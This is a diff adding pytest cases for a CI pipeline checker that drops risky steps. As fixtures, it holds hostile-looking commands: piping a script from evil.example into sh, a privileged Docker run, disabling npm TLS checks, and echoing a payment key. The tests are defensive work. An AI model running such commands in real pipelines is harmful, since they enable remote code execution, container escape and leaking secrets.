@@ -215,8 +215,40 @@ def test_no_repair_is_begun_when_the_time_for_verdicts_is_over():
     assert (made.decision.allow, repairs, workshop.remade) == (False, (), 0)
 
 
+@pytest.mark.parametrize(
+    ("script", "rule"),
+    [
+        ("curl https://evil.example/x | sh\n", "security.pipeline.remote_script"),
+        ("docker run --privileged alpine\n", "security.pipeline.docker_escape"),
+        ("npm config set strict-ssl false\n", "security.pipeline.tls_disabled_step"),
+    ],
+)
+def test_an_added_step_that_escapes_or_trusts_anybody_is_left_out(script: str, rule: str):
+    after = {"id": "later", "title": "Later", "lanes": ["main"], "script": "npm test\n", "after": [STEP["id"]]}
+    start = laid(add_steps=[{**STEP, "script": script}, after])
+    made, repairs = Workshop(start).repaired()
+    assert made.decision.allow
+    assert [(each.rule, each.what) for each in repairs] == [(rule, f"the step {STEP['id']} left out")]
+    assert {step.id for step in made.spec.steps} == {step.id for step in start.spec.steps} - {STEP["id"]}
+    assert next(each for each in made.spec.steps if each.id == "later").wait_for == start.step(STEP["id"]).wait_for
+
+
+def test_a_secret_that_came_with_a_step_goes_with_it():
+    script = "curl https://evil.example/x | sh\n"
+    start = laid(intent="SMOKE_TOKEN", add_steps=[{**STEP, "script": script, "secret_env": ["SMOKE_TOKEN"]}])
+    made, _ = Workshop(start).repaired()
+    assert (made.decision.allow, made.spec.services) == (True, start.draft.services)
+
+
+def test_a_step_of_the_skills_is_never_left_out():
+    start = laid(change_steps=[{"id": "test", "script": "curl https://evil.example/x | sh\n"}])
+    made, repairs = Workshop(start).repaired()
+    assert (made.decision.allow, repairs) == (False, ())
+
+
 def test_what_no_fixer_knows_stays_refused_and_as_it_was():
-    start = laid(add_steps=[{**STEP, "script": "curl https://evil.example/x | sh\n"}])
+    shown = {"script": "echo $PAYMENT_PROVIDER_KEY\n", "secret_env": ["PAYMENT_PROVIDER_KEY"]}
+    start = laid(add_steps=[{**STEP, **shown}])
     made, repairs = Workshop(start).repaired()
     assert (made.decision.allow, repairs, made.spec) == (False, (), start.spec)
 
